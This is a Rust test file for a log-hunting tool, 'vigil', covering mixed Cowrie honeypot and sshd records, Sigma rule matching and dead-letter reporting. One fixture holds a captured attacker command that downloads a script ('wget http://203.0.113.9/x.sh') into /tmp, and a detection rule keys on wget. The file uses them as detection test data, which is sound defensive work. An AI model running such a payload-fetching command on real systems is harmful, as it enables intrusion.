//! `vigil hunt` over non-Windows sources: per-record source detection, decoding into the
//! Sigma view, dead letters, `--source`. Uses only fixtures written here.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn vigil(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_vigil")).args(args).output().expect("vigil runs")
}

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("vigil-hunt-sources-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write fixture");
    path.display().to_string()
}

const COWRIE_RULE: &str = r#"
title: Cowrie download command
id: 0d4f7a52-6a53-4d8e-9f0e-8c1f9b1f2a01
logsource:
  product: cowrie
detection:
  selection:
    eventid: cowrie.command.input
    CommandLine|contains: wget
  condition: selection
level: high
"#;

const SSHD_RULE: &str = r#"
title: sshd failed password for root
id: 0d4f7a52-6a53-4d8e-9f0e-8c1f9b1f2a02
logsource:
  product: linux
  service: sshd
detection:
  keywords:
    - 'Failed password for root'
  condition: keywords
level: medium
"#;

const COWRIE_WGET: &str = r#"{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://203.0.113.9/x.sh","message":"CMD: cd /tmp; wget http://203.0.113.9/x.sh","sensor":"hp1","timestamp":"2026-03-27T03:19:20.1Z","src_ip":"198.51.100.7","session":"4a1f84ff5555"}"#;
const COWRIE_LS: &str = r#"{"eventid":"cowrie.command.input","input":"ls -la","message":"CMD: ls -la","sensor":"hp1","timestamp":"2026-03-27T03:19:21.1Z","src_ip":"198.51.100.7","session":"4a1f84ff5555"}"#;
const SSHD_FAIL: &str =
    "Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for root from 173.234.31.186 port 38926 ssh2";

#[test]
fn mixed_sources_in_one_file_are_each_decoded_and_matched_by_their_own_rules() {
    let dir = temp_dir("mixed");
    let rules = dir.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    write(&rules, "cowrie.yml", COWRIE_RULE);
    write(&rules, "sshd.yml", SSHD_RULE);
    let input = write(&dir, "mixed.log", &format!("{COWRIE_WGET}\n{SSHD_FAIL}\n{COWRIE_LS}\n"));
    let out = vigil(&["hunt", "--format", "jsonl", "--rules", rules.to_str().unwrap(), "--", &input]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let titles: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["rule_title"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(titles, ["Cowrie download command", "sshd failed password for root"]);
    assert!(stderr.contains("3 events") && stderr.contains("0 dead letters"), "{stderr}");
}

#[test]
fn undecodable_records_become_dead_letters_with_reasons_and_the_rest_still_matches() {
    let dir = temp_dir("dead");
    let rules = write(&dir, "cowrie.yml", COWRIE_RULE);
    let broken = &COWRIE_WGET[..40];
    let no_eventid = r#"{"src_ip":"1.2.3.4","session":"x","eventid":42,"timestamp":"2026-03-27T03:19:20Z"}"#;
    let binary_junk = "\u{1}\u{2}\u{3} not a log line";
    let input =
        write(&dir, "cowrie.json", &format!("{broken}\n{COWRIE_WGET}\n{no_eventid}\n{binary_junk}\n{COWRIE_LS}\n"));
    let dead = dir.join("dead.jsonl");
    let out = vigil(&[
        "hunt",
        "--format",
        "jsonl",
        "--dead-letter",
        dead.to_str().unwrap(),
        "--source",
        "cowrie",
        "--rules",
        &rules,
        "--",
        &input,
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 1, "the good wget line still matches");
    let letters: Vec<serde_json::Value> =
        std::fs::read_to_string(&dead).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let summary: Vec<(u64, &str)> =
        letters.iter().map(|l| (l["position"].as_u64().unwrap(), l["reason"].as_str().unwrap())).collect();
    assert_eq!(summary, [(1, "invalid_json"), (3, "invalid_field"), (4, "invalid_json")], "{letters:#?}");
    for l in &letters {
        assert!(l["file"].as_str().unwrap().ends_with("cowrie.json"));
        assert_eq!(l["decoder"], "cowrie");
        assert!(!l["message"].as_str().unwrap().is_empty());
    }
    assert_eq!(letters[0]["raw"], broken);
    assert!(stderr.contains("3 dead letters (invalid_field 1, invalid_json 2)"), "{stderr}");
}

#[test]
fn unknown_text_is_a_dead_letter_when_sources_are_detected() {
    let dir = temp_dir("unknown");
    let rules = write(&dir, "cowrie.yml", COWRIE_RULE);
    let input = write(&dir, "notes.txt", &format!("just some words\n{COWRIE_WGET}\n"));
    let out = vigil(&["hunt", "--format", "jsonl", "--rules", &rules, "--", &input]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 1);
    assert!(stderr.contains("1 dead letters (unknown_format 1)"), "{stderr}");
}

#[test]
fn an_unknown_source_name_is_refused_with_the_list() {
    let out = vigil(&["hunt", "--source", "nope", "--rules", "x.yml", "--", "y.json"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("tetragon") && stderr.contains("auditd"), "{stderr}");
}
